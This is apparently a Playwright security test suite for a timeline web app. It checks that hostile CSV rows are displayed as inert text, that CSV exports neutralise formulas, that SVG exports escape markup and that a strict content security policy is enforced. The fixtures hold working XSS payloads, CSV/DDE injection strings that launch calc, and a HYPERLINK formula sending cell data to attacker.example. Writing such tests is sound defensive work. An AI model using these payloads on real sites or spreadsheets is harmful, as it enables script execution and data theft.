import { expect, test } from '@playwright/test';
import Papa from 'papaparse';
import { TimelineApp, csvFromCells, fixtureEvents, requiredCells } from './app';

const seed = fixtureEvents({ n: 6, seed: 31, actors: 3, years: 1, startYear: 2022 });
const row = (i: number, patch: Record<string, string>): Record<string, string> => {
  const e = seed[i];
  if (!e) throw new Error('need more fixture rows');
  return {
    ...requiredCells(e, `evil-${i}`),
    confidence: '0.9',
    method: 'rules',
    article_url: 'https://news.example.com/story',
    ...patch,
  };
};

const hostile = [
  row(0, {
    title: '<img src=x onerror="window.__pwned=\'title\'">',
    sentence: '<script>window.__pwned="sentence"</script> Officials said so.',
    article_url: 'javascript:window.__pwned="url"',
  }),
  row(1, {
    title: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    sentence: '<svg onload="window.__pwned=\'svg\'"></svg>',
    people: '<iframe src="javascript:window.__pwned=1">',
    article_url: 'JaVaScRiPt:alert(1)',
  }),
  row(2, {
    title: '+cmd|" /C calc"!A0',
    location: '@SUM(1+1)*cmd|" /C calc"!A0',
    article_url: 'data:text/html,<b>x</b>',
  }),
  row(3, { title: '-2+3+cmd|" /C calc"!A0', quote: '\t=1+1', article_url: 'https://safe.example.org/a' }),
  row(4, { actor: '<img src=x onerror=alert(1)>', title: 'Unknown actor with markup' }),
];

async function assertNothingRan(app: TimelineApp): Promise<void> {
  const page = app.page;
  expect(app.dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as Window & { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(await page.locator('img[src="x"], iframe, svg[onload], [onerror]').count()).toBe(0);
  const hrefs = await page
    .locator('a[href]')
    .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
  for (const href of hrefs) expect(href).toMatch(/^(https?:|#|\.?\/|mailto:)/i);
}

test.describe('hostile CSV', () => {
  test('markup, script URLs and formulas in a CSV are shown as text and never run', async ({ page }) => {
    const csv = csvFromCells(hostile);
    const app = await TimelineApp.open(page, { csv });
    const s = await app.state();
    expect(s.totalCount + s.problems).toBe(hostile.length);
    await assertNothingRan(app);

    for (const evil of hostile.slice(0, 2)) {
      await app.act(() => page.evaluate((id) => (location.hash = `sel=${id}`), evil.id));
      await expect(page.locator('#detail-panel')).toBeVisible();
      await expect(page.locator('#detail-panel .detail-title')).toContainText(evil.title ?? '');
      await expect(page.locator('#detail-panel .detail-sentence')).toContainText(evil.sentence ?? '');
      await assertNothingRan(app);
    }
    // Only http(s) article links are clickable.
    await app.act(() => page.evaluate(() => (location.hash = 'sel=evil-3')));
    await expect(page.locator('#detail-panel a[href="https://safe.example.org/a"]')).toHaveCount(1);
    expect(app.pageErrors).toEqual([]);
  });

  test('exported CSV neutralises cells that a spreadsheet would run as formulas', async ({ page }) => {
    const app = await TimelineApp.open(page, { csv: csvFromCells(hostile) });
    const { bytes } = await app.download('#export-csv');
    const parsed = Papa.parse<string[]>(bytes.toString('utf8').replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    });
    const cells = parsed.data.flat();
    expect(cells.length).toBeGreaterThan(20);
    for (const cell of cells) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
  });

  test('the SVG export escapes text instead of embedding markup', async ({ page }) => {
    const app = await TimelineApp.open(page, { csv: csvFromCells(hostile) });
    const { bytes } = await app.download('#export-svg');
    const svg = bytes.toString('utf8');
    expect(svg).not.toMatch(/<(img|script|iframe|foreignObject)\b/i);
    // Markup from the data may appear as escaped text, never as an attribute of a real element.
    expect(svg).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
    await assertNothingRan(app);
  });
});

test.describe('content security policy', () => {
  test('the CSP is enforced: an injected inline script is refused and reported, and eval is not allowed', async ({
    page,
  }) => {
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as Window & { __cspViolations?: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    });
    const app = await TimelineApp.open(page, { csv: csvFromCells(hostile) });
    const outcome = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.appendChild(script);
      const policy =
        document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
      return { inline: (window as Window & { __inlineRan?: boolean }).__inlineRan === true, policy };
    });
    expect(outcome.inline).toBe(false);
    // Code run by the test driver is exempt from the page's eval rule, so that rule is checked in the policy:
    // scripts from the app's own origin only, no inline script, no eval.
    expect(outcome.policy).toMatch(/script-src 'self'(;|$)/);
    expect(outcome.policy).not.toMatch(/unsafe-inline|unsafe-eval|wasm-unsafe-eval|\*/);
    await expect
      .poll(() =>
        page.evaluate(() => (window as Window & { __cspViolations?: string[] }).__cspViolations ?? []),
      )
      .toEqual(expect.arrayContaining(['script-src-elem']));
    expect(app.pageErrors).toEqual([]);
  });

  test('normal use breaks no rule of the CSP: load, zoom, select, table view, exports, add-article dialog', async ({
    page,
  }) => {
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as Window & { __cspViolations?: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (e) =>
        seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
    });
    const app = await TimelineApp.open(page);
    await app.key('+');
    await app.key('Enter');
    await page.locator('#view-toggle').click();
    await page.locator('#view-toggle').click();
    await app.download('#export-svg');
    await app.download('#export-png');
    await app.download('#export-csv');
    await page.locator('#add-article').click();
    await page
      .locator('#article-text')
      .fill('Talks\n\nSEOUL, June 5, 2022 (Reuters) - North Korea fired eight missiles on Sunday.');
    await page.keyboard.press('Escape');
    await app.idle();
    const violations = await page.evaluate(
      () => (window as Window & { __cspViolations?: string[] }).__cspViolations ?? [],
    );
    expect(violations).toEqual([]);
    expect(app.pageErrors).toEqual([]);
  });
});
